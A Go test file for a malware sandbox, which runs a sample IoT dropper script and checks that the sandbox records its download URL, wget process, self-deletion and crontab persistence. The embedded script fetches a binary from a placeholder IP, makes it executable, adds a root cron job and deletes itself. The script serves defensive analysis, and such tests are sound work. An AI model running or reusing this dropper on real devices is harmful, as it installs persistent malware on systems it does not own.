package sandbox

import (
	"context"
	"slices"
	"testing"
	"time"
)

// TestScriptSample runs a dropper script, as bots push them: it downloads
// a binary with the device's wget, installs a crontab line and deletes
// itself.
func TestScriptSample(t *testing.T) {
	needSandbox(t)
	t.Parallel()
	script := []byte("#!/bin/sh\ncd /tmp\nwget http://198.51.100.9/bins/x.arm7 -O /tmp/x.arm7\nchmod 777 /tmp/x.arm7\n" +
		"echo '*/5 * * * * /tmp/x.arm7' > /etc/crontabs/root\nrm -f \"$0\"\n")
	r, err := Run(context.Background(), script, Device{}, Options{Timeout: 30 * time.Second, SampleName: "bins.sh"})
	if err != nil {
		t.Fatal(err)
	}
	if r.Arch != "script" || r.Emulator != "busybox-sh" || !r.Exit.Finished || r.Exit.Code != 0 {
		t.Errorf("arch %q emulator %q exit %+v", r.Arch, r.Emulator, r.Exit)
	}
	if !slices.ContainsFunc(r.DownloadURLs, func(d DownloadURL) bool {
		return d.URL == "http://198.51.100.9/bins/x.arm7" && d.Source == "http-request"
	}) {
		t.Errorf("download urls = %+v", r.DownloadURLs)
	}
	var wget bool
	for _, p := range r.Processes {
		for _, e := range p.Execs {
			wget = wget || len(e.Argv) > 0 && e.Argv[0] == "wget"
		}
	}
	if !wget {
		t.Errorf("no wget in the process tree: %+v", r.Processes)
	}
	if !r.SelfDeleted {
		t.Error("self-deletion not seen")
	}
	if r.Persistence.Verdict != VerdictPersistent || !slices.Contains(r.Persistence.Files, "/etc/crontabs/root") {
		t.Errorf("persistence = %+v", r.Persistence)
	}
	if t.Failed() {
		dump(t, r)
	}
}
